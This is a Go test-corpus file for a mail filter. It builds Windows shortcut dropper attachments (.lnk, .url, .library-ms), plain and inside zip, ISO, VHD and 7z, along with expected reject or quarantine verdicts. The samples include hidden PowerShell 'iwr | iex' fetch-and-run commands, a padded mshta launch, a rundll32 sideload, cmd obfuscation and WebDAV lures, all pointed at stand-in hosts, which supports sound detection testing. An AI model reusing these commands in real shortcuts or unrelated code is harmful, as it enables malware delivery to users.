package corpus

import (
	"strings"

	"github.com/kensa-milter/kensa/internal/corpus/formats"
	"github.com/kensa-milter/kensa/policy"
)

// Windows shortcuts (.lnk) that run a command, as LNK droppers are mailed:
// attached under an innocent name, zipped, in an ISO, a VHD or a 7z; each
// read from its bytes (shortcut-command). The stand-ins start notepad or
// fetch from reserved names. Honest shortcuts (a document on the file
// server, an intranet application, Excel in safe mode) are in the
// malicious set too, because every shortcut attachment is quarantined
// (dangerous-shortcut): they must get no shortcut-command.

// lnkDroppers are the techniques: the shortcut and its name.
func lnkDroppers() []struct {
	key, about, name string
	lnk              []byte
} {
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	return []struct {
		key, about, name string
		lnk              []byte
	}{
		{"powershell", "PowerShell hidden, fetching a script and running it (iwr | iex), under Edge's PDF icon",
			"Invoice_4471.pdf.lnk", formats.LNK(formats.Shortcut{Target: ps, IDList: true, LinkInfo: true, RelativePath: `..\..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				Arguments:    `-w hidden -nop -c "iwr https://cdn.lnk-kit.example.net/i.ps1 -UseBasicParsing | iex; notepad"`,
				IconLocation: `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, IconIndex: 11, ShowCommand: 7})},
		{"cmd-env-padded", "cmd.exe only in the environment block (%COMSPEC%), its mshta command pushed behind 300 spaces, with an innocent name",
			"Scan_0427", formats.LNK(formats.Shortcut{EnvTarget: `%COMSPEC%`, Arguments: strings.Repeat(" ", 300) + `/c start /min mshta https://cdn.lnk-kit.example.net/s.hta`,
				IconEnv: `%SystemRoot%\System32\imageres.dll`, IconIndex: 2})},
		{"rundll32-beside", "rundll32 running a DLL beside the shortcut (the ISO droppers' shape), the target only in the shell items",
			"Documents.lnk", formats.LNK(formats.Shortcut{Target: `C:\Windows\System32\rundll32.exe`, IDList: true, Arguments: `data\notepad.dat,DllRegisterServer`,
				IconLocation: `%SystemRoot%\System32\shell32.dll`, IconIndex: 3})},
		{"cmd-dosfuscated", "cmd.exe whose command is spelled with cmd's own obfuscation: a variable set earlier on the line, a letter cut out of %ProgramData%, call's second expansion and carets build \"powershell\" and a web address no word of the arguments shows",
			"Invoice_4471.lnk", formats.LNK(formats.Shortcut{Target: `C:\Windows\System32\cmd.exe`, IDList: true, LinkInfo: true, ShowCommand: 7,
				Arguments: `/c "set x=ersh&&set u=ht^tps:/&&call %ProgramData:~3,1%o^w%x%ell -nop -c i%ProgramData:~-1,0%wr %u%/cdn.lnk-kit.example.net/i.ps1 ^| i%PUBLIC:~-2,1%x; notepad"`})},
	}
}

func shortcutSamples() []Sample {
	var out []Sample
	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
	body := text("Hello,\n\nthe documents you asked for are attached.\n\nRegards,\nAccounts\n")
	for _, d := range lnkDroppers() {
		wraps := []struct {
			suffix, about, path string
			att                 node
		}{
			{"", "", "2", attach("application/octet-stream", d.name, d.lnk)},
			{"-in-zip", " (in a zip)", "2/documents.zip/" + d.name, attach("application/zip", "documents.zip", zipOf(file{d.name, d.lnk}))},
			{"-in-iso", " (in an ISO)", "2/documents.iso/" + d.name, isoAtt(formats.ISOFile{ISO: "DOCUMENT.LNK", Joliet: d.name, Data: d.lnk})},
			{"-in-vhd", " (in a VHD)", "2/documents.vhd/" + d.name, attach("application/octet-stream", "documents.vhd",
				formats.VHDFixed(formats.Partitioned(fatOf(payload{name: d.name, data: d.lnk}), false, false)))},
			{"-in-7z", " (in a 7z)", "2/documents.7z/" + d.name, attach("application/x-7z-compressed", "documents.7z", formats.SevenZip(d.name, d.lnk, 0x20))},
		}
		for _, wr := range wraps {
			add(Sample{Name: "lnk-" + d.key + wr.suffix, About: "a Windows shortcut running a command: " + d.about + wr.about, Action: policy.Reject,
				Want: []Want{w("heuristic", "shortcut-command", wr.path)}},
				mail{subject: "Documents", root: multipart("mixed", body, wr.att)})
		}
	}
	// Internet shortcuts and libraries that open the sender's WebDAV folder
	// (the .url and search-ms campaigns), attached and zipped.
	texts := []struct{ key, about, name, data string }{
		{"url-webdav", "an Internet shortcut whose URL runs a program from a WebDAV folder on the Internet", "Invoice_4471.url",
			"[InternetShortcut]\r\nURL=file://docs-share.lnk-kit.example.net@SSL/DavWWWRoot/Invoice_4471.pdf.exe\r\nIconFile=C:\\Windows\\System32\\shell32.dll\r\nIconIndex=70\r\n"},
		{"url-search-ms", "an Internet shortcut whose URL is a search-ms: search of a WebDAV folder on the Internet", "Scans.url",
			"[InternetShortcut]\r\nURL=search-ms:query=Scan&crumb=location:%5C%5Cdocs-share.lnk-kit.example.net@SSL%5CDavWWWRoot&displayname=Scans\r\n"},
		{"library-webdav", "a library (.library-ms) whose location is a WebDAV folder on the Internet", "Documents.library-ms",
			`<?xml version="1.0" encoding="UTF-8"?>` + "\r\n" + `<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><name>Documents</name><version>6</version>` +
				`<searchConnectorDescriptionList><searchConnectorDescription><isDefaultSaveLocation>true</isDefaultSaveLocation>` +
				`<simpleLocation><url>\\docs-share.lnk-kit.example.net@SSL\DavWWWRoot\docs</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>` + "\r\n"},
	}
	for _, t := range texts {
		add(Sample{Name: "lnk-" + t.key, About: t.about, Action: policy.Reject, Want: []Want{w("heuristic", "shortcut-command", "2")}},
			mail{subject: "Documents", root: multipart("mixed", body, attach("application/octet-stream", t.name, []byte(t.data)))})
		add(Sample{Name: "lnk-" + t.key + "-in-zip", About: t.about + " (in a zip)", Action: policy.Reject, Want: []Want{w("heuristic", "shortcut-command", "2/documents.zip/"+t.name)}},
			mail{subject: "Documents", root: multipart("mixed", body, attach("application/zip", "documents.zip", zipOf(file{t.name, []byte(t.data)})))})
	}
	// The honest shortcuts: quarantined as every shortcut is, with no
	// shortcut-command.
	honest := []struct{ key, about, name string }{
		{"share-document", "a shortcut to a workbook on the company's file server", "Q3 figures.lnk"},
		{"intranet-app", "a shortcut to the intranet ERP client with its server and profile", "ERP.lnk"},
		{"excel-safe-mode", "a Start-menu shortcut to Excel in safe mode", "Excel (safe mode).lnk"},
		{"url-file-server", "an Internet shortcut to a workbook on the company's file server", "Q3 figures.url"},
		{"library-file-server", "a library of the company's project share and the Documents folder", "Projects.library-ms"},
		{"cmd-set-language", "a shortcut opening a command prompt that sets the language, goes to the user's folder and runs the company's environment script from the file server", "Tools prompt.lnk"},
	}
	lnks := [][]byte{
		formats.LNK(formats.Shortcut{Target: `\\fileserver\finance\Q3 figures.xlsx`, LinkInfo: true, Name: "Q3 figures"}),
		formats.LNK(formats.Shortcut{Target: `C:\Program Files\Example\ERP\client.exe`, IDList: true, LinkInfo: true,
			Arguments: `--server https://erp.corp.example.jp --profile sales`, WorkingDir: `C:\Program Files\Example\ERP`}),
		formats.LNK(formats.Shortcut{Target: `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, IDList: true, LinkInfo: true, Arguments: `/safe`}),
		[]byte("[InternetShortcut]\r\nURL=file://fileserver/finance/Q3%20figures.xlsx\r\n"),
		[]byte(`<?xml version="1.0" encoding="UTF-8"?>` + "\r\n" + `<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><name>Projects</name><version>6</version>` +
			`<searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\fs01.corp.local\projects</url></simpleLocation></searchConnectorDescription>` +
			`<searchConnectorDescription><simpleLocation><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>` + "\r\n"),
		formats.LNK(formats.Shortcut{EnvTarget: `%COMSPEC%`, Arguments: `/k "set LANG=ja&&cd /d %USERPROFILE%&&\\fileserver\tools\env.bat"`, IconEnv: `%COMSPEC%`}),
	}
	for i, h := range honest {
		add(Sample{Name: "lnk-honest-" + h.key, About: "an honest shortcut, quarantined as every shortcut attachment is, without shortcut-command: " + h.about,
			Action: policy.Quarantine, Want: []Want{w("heuristic", "dangerous-shortcut", "2")}},
			mail{from: "Aiko Sato <aiko@corp.example.jp>", subject: "Shortcut", root: multipart("mixed", text("Kenji, here is the shortcut.\n"), attach("application/octet-stream", h.name, lnks[i]))})
	}
	return out
}
